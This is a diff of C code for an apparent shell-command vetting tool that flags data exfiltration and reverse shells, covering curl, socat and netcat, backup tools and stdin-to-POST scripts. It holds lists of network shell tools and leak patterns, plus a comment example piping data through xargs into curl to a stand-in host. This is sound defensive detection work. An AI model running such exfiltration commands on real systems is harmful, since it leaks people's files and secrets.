@@ -14,6 +14,12 @@ static void take(struct sh_leak *l, unsigned taint, const char *from)
 {
 	l->taint |= taint;
 	l->from = l->from ? l->from : from;
+	if (!(taint & SH_ENV))
+		return;
+	if (from && from[0] == '$')
+		l->variable = from;
+	else
+		l->whole = true;
 }
 
 static void take_word(struct sh *s, struct sh_leak *l, const struct sh_word *w, bool files)
@@ -117,26 +123,46 @@ static const char *body_file(const struct sh_command *c, size_t i)
 											  : NULL;
 }
 
+bool sh_is_archive(const char *path)
+{
+	return ends_in(path, ".tgz\0.tar.gz\0.tar\0.zip\0.7z\0.rar\0.tar.xz\0.txz\0.tar.bz2\0"
+			     ".tbz\0.tbz2\0.tar.zst\0.cpio\0");
+}
+
 static const char dumps[] = ".sql\0.sql.gz\0.dump\0.sql.bz2\0.sql.zst\0";
+
+/* Somebody's whole home, his papers, tables about people, or what services keep. */
+static bool is_papers(struct sh *s, const char *path)
+{
+	enum sh_place p = sh_place(s, path);
+	bool own =
+		strstr(path, "/Documents") || strstr(path, "/Desktop") || strstr(path, "/Pictures");
+
+	return p == SH_HOME_DIR || (own && p == SH_IN_HOME) || !strncmp(path, "/var/lib/", 9) ||
+	       sh_about_people(path);
+}
+
+/* The same, or another file of the system. */
+static bool lies_beyond(struct sh *s, const char *path)
+{
+	return sh_of_system(s, path) || is_papers(s, path);
+}
 
 /* What the place and the name of a file say about what is in it. */
 static void take_file(struct sh *s, struct sh_leak *l, const char *path, bool many)
 {
 	const struct sh_file *f = sh_file_get(s, path, false);
 	enum sh_place p = sh_place(s, path);
-	bool own = strstr(path, "/Documents/") || strstr(path, "/Desktop/") ||
-		   strstr(path, "/Pictures/");
 
 	/* nobody sends a folder: it stands for the files that were found there */
 	if (p == SH_ROOT_DIR || p == SH_HOME_DIR || p == SH_SYSTEM_DIR)
 		take(l, SH_SECRET, "files of others");
 	if (ends_in(path, dumps))
 		take(l, SH_SECRET, "a dump of a database");
-	l->beyond = l->beyond || sh_of_system(s, path) || (p == SH_IN_HOME && own);
+	l->beyond = l->beyond || lies_beyond(s, path);
 	l->parcel = l->parcel || (p == SH_TEMP && many) ||
 		    (p == SH_TEMP && f && (f->data.taint & SH_PACKED)) ||
-		    (p == SH_TEMP && ends_in(path, ".tgz\0.tar.gz\0.tar\0.zip\0.7z\0.rar\0"
-						   ".tar.xz\0.txz\0.tar.bz2\0.tar.zst\0"));
+		    (p == SH_TEMP && sh_is_archive(path));
 }
 
 /* Word i is what is sent, or the file that holds it. */
@@ -170,12 +196,36 @@ static bool says_who(const char *before, const char *word)
 			       strcasestr(word, "api-key:") || strcasestr(word, "apikey:")));
 }
 
+/* https://api.telegram.org/bot$TOKEN/sendMessage: the service wants to know who speaks, there. */
+static bool is_login(const struct sh_word *w)
+{
+	const char *at = strstr(w->text, "://api.telegram.org/bot$");
+
+	return at && !strstr(w->text, "$(") && !strchr(at + 24, '$') && !strchr(at, '?');
+}
+
+/* What an address may not say. */
+#define IN_URL \
+	(SH_SECRET | SH_ENV | SH_HOST | SH_HARD | SH_FILE | SH_SYSTEM | SH_PACKED | SH_SEALED)
+
+/* Names that were read from a file are asked for everywhere, but of machines that nobody knows. */
+static unsigned in_url(const struct sh_word *w)
+{
+	bool known = !sh_host_abroad(w->text) && !sh_host_drop(w->text);
+
+	return w->taint & ~(SH_NET | SH_DECODED | (known ? SH_FILE : 0));
+}
+
 static void curl_leak(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 {
 	/* name=@FILE is what they send */
 	bool items = sh_is(c->args.v[0].text, "|http|https|xh|xhs|curlie|");
 
 	l->web = true;
+	if (items && (c->how & SH_STDIN)) {
+		take_input(l, c);
+		l->stream = true;
+	}
 	for (size_t i = 1; i < c->args.n; i++) {
 		const struct sh_word *w = &c->args.v[i];
 		const char *before = c->args.v[i - 1].text;
@@ -197,10 +247,14 @@ static void curl_leak(struct sh *s, const struct sh_command *c, struct sh_leak *
 			take_body(s, c, i, l);
 		} else if (head) {
 			take_header(l, w);
-		} else if (w->taint & (SH_SECRET | SH_ENV | SH_HOST | SH_HARD)) {
-			take_word(s, l, w, false);
+		} else if ((w->taint & IN_URL) && !is_login(w)) {
+			take(l, in_url(w), w->from);
 			l->lookup = l->lookup || announces(w);
 		}
+		/* … | xargs -I{} curl https://a.example/?d={} */
+		if ((c->how & SH_ARGSIN) && !body && sh_is_url(w->text) && strstr(w->text, "{}") &&
+			(c->in.taint & (SH_SEALED | SH_CODED | SH_SECRET | SH_ENV)))
+			take_input(l, c);
 	}
 	for (size_t i = 1; !l->host && i < c->args.n; i++) {
 		if (c->args.v[i].text[0] != '-' && !sh_is(c->args.v[i - 1].text, upload_options) &&
@@ -222,19 +276,38 @@ static void take_orders(struct sh *s, const struct sh_command *c, struct sh_leak
 		take(l, x->taint & 0xff, x->pattern);
 }
 
+/* TCP4:host:port,option as socat writes it: host:port. */
+static const char *socket_peer(struct sh *s, const char *word)
+{
+	const char *colon = strchr(word, ':');
+
+	if (!colon ||
+		(strncasecmp(word, "tcp", 3) != 0 && strncasecmp(word, "udp", 3) != 0 &&
+			strncasecmp(word, "openssl", 7) != 0 && strncasecmp(word, "ssl", 3) != 0))
+		return NULL;
+	return bawn_arena_strndup(s->a, colon + 1, strcspn(colon + 1, ","));
+}
+
 /* Programs that send their input to a machine named in their words. */
 static void pipe_leak(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 {
-	l->raw = sh_is(c->args.v[0].text, "|nc|ncat|netcat|socat|telnet|websocat|");
+	bool socket = !strcmp(c->args.v[0].text, "socat");
+
+	l->raw = sh_is(c->args.v[0].text, "|nc|ncat|netcat|socat|telnet|websocat|ftpput|");
+	l->stream = (c->how & SH_STDIN) != 0;
+	l->shown = !strcmp(c->args.v[0].text, "gh") && sh_has(c, "|gist|");
+	l->web = l->shown;
 	take(l, c->in.taint & ~SH_NET, c->in.from);
-	if (c->how & SH_STDIN)
+	if (l->stream || sh_is(c->args.v[0].text, "|ftpput|ncftpput|"))
 		take(l, SH_FILE, NULL);
 	take_orders(s, c, l);
 	for (size_t i = 1; i < c->args.n; i++) {
 		const struct sh_word *w = &c->args.v[i];
+		const char *peer = socket ? socket_peer(s, w->text) : w->text;
 
-		if (!l->host && w->text[0] != '-' && sh_host_of(s, w->text, NULL) != SH_HOST_NONE)
-			l->host = w->text;
+		if (!l->host && w->text[0] != '-' && peer &&
+			sh_host_of(s, peer, NULL) != SH_HOST_NONE)
+			l->host = peer;
 		if (!sh_not_read(c, i))
 			take_word(s, l, w, true);
 	}
@@ -268,6 +341,23 @@ struct route {
 	size_t away, here;
 };
 
+/* An option whose word comes behind it. */
+static bool takes_word(const struct sh_command *c, const char *option)
+{
+	const char *p = c->args.v[0].text;
+	size_t n = strlen(option);
+
+	if (option[0] != '-' || strchr(option, '='))
+		return false;
+	if (!strcmp(p, "scp"))
+		return strchr("PioFlcJSD", option[n - 1]) != NULL;
+	if (!strcmp(p, "rsync"))
+		return sh_is(option, "|--exclude|--include|--exclude-from|--include-from|--rsh|"
+				     "--files-from|--filter|--bwlimit|--port|--password-file|") ||
+		       (option[1] != '-' && strchr("efTBM", option[n - 1]));
+	return true;
+}
+
 static void take_copied(
 	struct sh *s, const struct sh_command *c, struct sh_leak *l, struct route *r)
 {
@@ -281,8 +371,10 @@ static void take_copied(
 			r->away = r->away ? r->away : i;
 		} else if (!sh_not_read(c, i)) {
 			take_word(s, l, w, true);
-			if (w->text[0] != '-' && c->args.v[i - 1].text[0] != '-')
-				r->here = i;
+			if (w->text[0] == '-' || takes_word(c, c->args.v[i - 1].text))
+				continue;
+			r->here = i;
+			l->papers = l->papers || is_papers(s, w->text);
 		}
 	}
 }
@@ -299,10 +391,13 @@ static bool is_kept(struct sh *s, const char *from, const char *to)
 static void copy_leak(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 {
 	struct route r = {.to = c->args.n > 1 ? c->args.v[c->args.n - 1].text : ""};
+	/* where to stands before what */
+	bool first = sh_is(c->args.v[0].text, "|restic|borg|duplicity|kopia|") &&
+		     sh_has(c, "|backup|create|snapshot|full|incr|~|/|/home|/etc|");
 
 	l->transfer = true;
 	take_copied(s, c, l, &r);
-	if (sh_has(c, "|-|"))
+	if (sh_has(c, "|-|rcat|"))
 		take(l, c->in.taint & ~SH_NET, c->in.from);
 	if (remote_place(r.to))
 		l->host = r.service ? r.service : r.to;
@@ -317,8 +412,10 @@ static void copy_leak(struct sh *s, const struct sh_command *c, struct sh_leak *
 	if (!l->host)
 		l->taint = 0;
 	/* from there to here */
-	if (l->host && r.away < r.here)
+	if (l->host && r.away < r.here && !first)
 		l->taint &= ~(SH_SECRET | SH_HARD);
+	l->copied = l->host && r.here && (r.here < r.away || first);
+	l->papers = l->papers && l->copied;
 }
 
 /* Programs that put files into a store or onto a page of somebody, by the words that say so. */
@@ -348,7 +445,7 @@ static const struct {
 	{"|onionshare|onionshare-cli|sharefile|transfer|transfersh|ffsend|plik|wetransfer|", NULL,
 		DROP},
 	{"|telegram-send|slackcat|slack-cli|discord.sh|apprise|ntfy|pushbullet|signal-cli|", NULL,
-		OWN},
+		MESSAGE},
 };
 
 /* A whole home as the pages of a site. */
@@ -501,6 +598,9 @@ int sh_vet_tcp(struct sh *s, const struct sh_command *c)
 			s->a, p + 9, slash ? (size_t)(slash - p - 9) : strlen(p + 9));
 		if (!l.host)
 			return sh_no_memory(s);
+		/* a service of this machine */
+		if (!shell && sh_host_of(s, l.host, NULL) == SH_HOST_LOCAL)
+			continue;
 		s->past |= SH_PAST_NET;
 		if (shell || sh_is(c->args.n ? c->args.v[0].text : "", "|exec|"))
 			return sh_found(s, c, "command.reverse-shell", "execution",
@@ -517,6 +617,32 @@ int sh_vet_tcp(struct sh *s, const struct sh_command *c)
 	return 0;
 }
 
+int sh_vet_code_input(struct sh *s, const struct sh_command *c, const char *code)
+{
+	static const char *const reads[] = {"stdin", "STDIN", "<>", "fileinput", "/dev/fd/0"};
+	static const char *const sends[] = {
+		".post(", ".put(", "urlopen(", ".sendall(", ".send(", "data=", "body", "POST"};
+	const char *url = strstr(code, "://");
+	struct sh_leak l = {.web = true, .stream = true};
+	bool in = false, out = false;
+
+	if (!url || !(c->how & SH_STDIN) || s->script)
+		return 0;
+	for (size_t i = 0; i < sizeof(reads) / sizeof(reads[0]); i++)
+		in = in || strstr(code, reads[i]);
+	for (size_t i = 0; i < sizeof(sends) / sizeof(sends[0]); i++)
+		out = out || strstr(code, sends[i]);
+	while (url > code && isalpha((unsigned char)url[-1]))
+		url--;
+	l.host = in && out ? bawn_arena_strndup(s->a, url, strcspn(url, "'\"` )")) : NULL;
+	if (!l.host)
+		return 0;
+	take_input(&l, c);
+	l.far = sh_host_of(s, l.host, NULL) >= SH_HOST_PLAIN;
+	return sh_found(s, c, "command.exfiltration", "exfiltration",
+		"sends what it is given to another machine", sh_worth(s, &l));
+}
+
 /* What leaves, by the kind of program. */
 static void gather(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 {
@@ -527,17 +653,18 @@ static void gather(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 		    "lynx|w3m|links|elinks|"))
 		curl_leak(s, c, l);
 	else if (sh_is(p, "|nc|ncat|netcat|socat|telnet|openssl|ssh|ftp|tftp|lftp|mail|mailx|mutt|"
-			  "sendmail|swaks|msmtp|smbclient|sftp|s-nail|restic|websocat|wscat|finger|"
+			  "sendmail|swaks|msmtp|smbclient|sftp|s-nail|websocat|wscat|finger|"
 			  "whois|gs-netcat|croc|wormhole|magic-wormhole|ffsend|lp|rlogin|hping3|ab|"
-			  "ncftpput|tailscale|gh|"))
+			  "ncftpput|ftpput|tailscale|gh|kcat|kafkacat|") ||
+		 (!strcmp(p, "logger") && sh_has(c, "|-n|--server|")))
 		pipe_leak(s, c, l);
 	else if (sh_is(p, "|dig|nslookup|host|ping|drill|resolvectl|getent|ping6|traceroute|"))
 		name_leak(s, c, l);
 	else if (store_leak(s, c, l))
 		return;
-	else if (
-		sh_is(p,
-			"|scp|rsync|rclone|aws|gsutil|gcloud|s3cmd|mc|az|azcopy|b2|kubectl|docker|"))
+	else if (sh_is(p,
+			 "|scp|rsync|rclone|aws|gsutil|gcloud|s3cmd|mc|az|azcopy|b2|kubectl|docker|"
+			 "restic|borg|duplicity|kopia|"))
 		copy_leak(s, c, l);
 	else
 		other_leak(s, c, l);
@@ -550,7 +677,7 @@ int sh_vet_leak(struct sh *s, const struct sh_command *c)
 	double x;
 
 	gather(s, c, &l);
-	if ((!l.taint && !l.beyond && !l.parcel) ||
+	if ((!l.taint && !l.beyond && !l.parcel && !l.copied) ||
 		(c->how & SH_REMOTE && !(l.taint & (SH_HARD | SH_ENV)) &&
 			!(c->in.taint & SH_SECRET)))
 		return 0;
@@ -561,8 +688,11 @@ int sh_vet_leak(struct sh *s, const struct sh_command *c)
 		return 0;
 	for (size_t i = 1; i < c->args.n; i++)
 		l.transfer = l.transfer && !in_name(&c->args.v[i]);
-	l.far = l.host && ((sh_host_of(s, l.host, NULL) == SH_HOST_PLAIN && !l.named) ||
+	l.far = l.host && ((sh_host_of(s, l.host, NULL) == SH_HOST_PLAIN &&
+				   (!l.named || sh_host_personal(l.host))) ||
 				  sh_host_of(s, l.host, NULL) == SH_HOST_ODD);
+	l.far = l.far || l.shown;
+	l.abroad = l.host && sh_host_abroad(l.host);
 	x = sh_worth(s, &l);
 	/* who sends a backup to his own machine does not hide it from that machine */
 	if (l.transfer && (l.taint & SH_SECRET) && s->encrypted.n && x > 0 && x < 0.42)
